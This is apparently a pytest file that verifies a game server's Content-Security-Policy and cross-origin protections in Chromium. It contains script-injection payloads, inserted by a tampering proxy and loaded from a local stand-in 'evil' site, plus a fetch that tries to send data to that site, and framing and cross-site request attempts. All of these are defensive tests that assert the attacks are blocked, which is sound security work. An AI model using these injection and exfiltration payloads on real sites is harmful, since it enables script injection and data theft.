"""What Chromium makes of the server's headers: injected scripts, other sites, frames, referrers, our own screens."""

import contextlib
import json
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.page.desk import NETWORK, Arrive, Person

LENGTHS = ("content-length", "transfer-encoding", "connection", "content-encoding")
WATCH = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));
"""
INJECTED = """
<script>window.caught = [...(window.caught ?? []), 'inline']</script>
<img src="nosuch" onerror="window.caught = [...(window.caught ?? []), 'handler']">
<script src="%(evil)sscript"></script>
<img src="%(evil)simage"><iframe src="%(evil)sframe"></iframe><link rel="stylesheet" href="%(evil)sstyle">
"""


class Evil:
    """A site of somebody else, under another name. It keeps what it was asked for, with the headers."""

    def __init__(self, port: int) -> None:
        self.url = f"http://{NETWORK}:{port}/"
        self.asked: list[tuple[str, dict[str, str]]] = []
        self.document = "<!doctype html><title>evil</title>"

    def paths(self) -> set[str]:
        return {path for path, _ in self.asked} - {"/", "/favicon.ico"}


@pytest.fixture
def evil() -> Iterator[Evil]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.asked.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
            script = self.path == "/script"
            body = b"window.caught = [...(window.caught ?? []), 'foreign']" if script else site.document.encode()
            self.send_response(200)
            self.send_header("content-type", "text/javascript" if script else "text/html")
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with running(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as port:
        site = Evil(port)
        yield site


@contextmanager
def tampered(address: str, evil: Evil, policy: bool) -> Iterator[str]:
    """The address of a proxy that puts something hostile into the document; `policy`: whether it leaves the server's
    header as it is. The browser's own interception would not do: it counts as another network."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            request = urllib.request.Request(address + self.path.lstrip("/"))
            with contextlib.suppress(urllib.error.HTTPError), urllib.request.urlopen(request) as got:
                body = got.read()
                if b"</body>" in body:
                    body = body.replace(b"</body>", (INJECTED % {"evil": evil.url}).encode() + b"</body>")
                self.send_response(got.status)
                for name, value in got.headers.items():
                    if name.lower() not in LENGTHS and (policy or name.lower() != "content-security-policy"):
                        self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with running(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as port:
        yield f"http://127.0.0.1:{port}/"


@contextmanager
def running(server: ThreadingHTTPServer) -> Iterator[int]:
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def caught(person: Person) -> list[str]:
    return list(person.page.evaluate("window.caught ?? []"))


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without it"])
def test_an_injected_script_does_not_run(arrive: Arrive, evil: Evil, policy: bool) -> None:
    """Neither inline, nor as a handler, nor from elsewhere; nothing is even asked of the other site. Without the
    header everything happens, so that this test can tell."""
    person = arrive()
    with tampered(person.address, evil, policy) as person.address:
        person.home()
        person.page.wait_for_timeout(500)
        if policy:
            assert caught(person) == []
            assert evil.paths() == set()
            write = "() => { try { document.body.innerHTML = '<img>' } catch (error) { return error.name } }"
            assert person.page.evaluate(write) == "TypeError"
            send = "(url) => fetch(url).then(() => 'sent', () => 'blocked')"
            assert person.page.evaluate(send, evil.url + "secret") == "blocked"
            assert evil.paths() == set()
            assert person.complaints  # the browser says what it has blocked
        else:
            person.until("window.caught?.length >= 3")
            assert set(caught(person)) == {"inline", "handler", "foreign"}
            person.until("document.readyState === 'complete'")
            assert {"/script", "/image", "/frame", "/style"} <= evil.paths()
    person.complaints = []


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without it"])
def test_no_other_site_shows_the_page_in_a_frame(arrive: Arrive, evil: Evil, policy: bool) -> None:
    person = arrive()
    evil.document = f'<!doctype html><title>evil</title><iframe src="{person.address}"></iframe>'

    def strip(route: Any) -> None:
        got = route.fetch()
        kept = {name: value for name, value in got.headers.items() if name != "content-security-policy"}
        route.fulfill(response=got, headers=kept)

    if not policy:
        person.page.route(person.address, strip)
    person.page.goto(evil.url)
    person.page.wait_for_load_state("networkidle")
    (frame,) = person.page.main_frame.child_frames
    if not policy:
        frame.locator("article").first.wait_for()
    assert (frame.locator("article").count() > 0) is not policy
    person.complaints = []


def test_another_site_learns_and_changes_nothing(arrive: Arrive, evil: Evil) -> None:
    """It can read no answer, open no table and no socket, and use no file of this server; our own page can."""
    person = arrive()
    new = {"game": "offrandes", "seats": 3, "name": "Bob", "listed": True}
    made = person.page.request.post(f"{person.address}api/tables", data=new).json()["table"]["id"]
    doings = {
        "read": f"fetch('{person.address}api/server').then((got) => got.text())",
        "cookies": f"fetch('{person.address}api/tables', {{credentials: 'include'}}).then((got) => got.text())",
        "load": f"""new Promise((well, badly) => {{
            const image = new Image(); image.onload = well; image.onerror = badly;
            image.src = '{person.address}flame.svg';
        }})""",
        "connect": f"""new Promise((well, badly) => {{
            const socket = new WebSocket('{person.address.replace("http", "ws")}api/tables/{made}/socket');
            socket.onopen = well; socket.onerror = badly;
        }})""",
    }
    for address, expected in ((person.address, "well"), (evil.url, "refused")):
        person.page.goto(address)
        for name, doing in doings.items():
            said = person.page.evaluate(f"() => {doing}.then(() => 'well', () => 'refused')")
            assert said == expected, name
    body = json.dumps(json.dumps(new | {"name": "Eve"}))
    post = f"fetch('{person.address}api/tables', {{method: 'POST', mode: 'no-cors', body: {body}}})"
    person.page.evaluate(f"() => {post}.then(() => 0, () => 0)")
    listed = person.page.request.get(f"{person.address}api/tables").json()["tables"]
    names = {seat["name"] for table in listed for seat in table["seats"]}
    assert "Bob" in names
    assert "Eve" not in names
    person.complaints = []


def test_other_sites_do_not_learn_where_people_come_from(arrive: Arrive, evil: Evil) -> None:
    """Not even the address of this server, by a link or a new window; a private link is not sent anywhere."""
    person = arrive()
    person.play_now("offrandes")
    follow = "(url) => { const a = document.createElement('a'); a.href = url; document.body.append(a); a.click() }"
    person.page.evaluate(follow, evil.url + "followed")
    person.page.wait_for_url(evil.url + "followed")
    asked = dict(evil.asked)["/followed"]
    assert "referer" not in asked
    assert "cookie" not in asked


def test_our_own_screens_keep_to_the_policy(arrive: Arrive) -> None:
    """No screen does what its own headers forbid: nothing is blocked, nothing is complained about."""
    person = arrive()
    person.context.add_init_script(WATCH)
    found: list[str] = []

    def look() -> None:
        person.page.wait_for_timeout(300)
        found.extend(person.page.evaluate("window.violations"))

    person.home()
    look()
    for path, there in (("new/offrandes", "form"), ("rules/offrandes", "p[id^=rule-]")):
        person.visit(path)
        person.page.wait_for_selector(there)
        look()
    person.play_now("offrandes")
    look()
    assert found == []
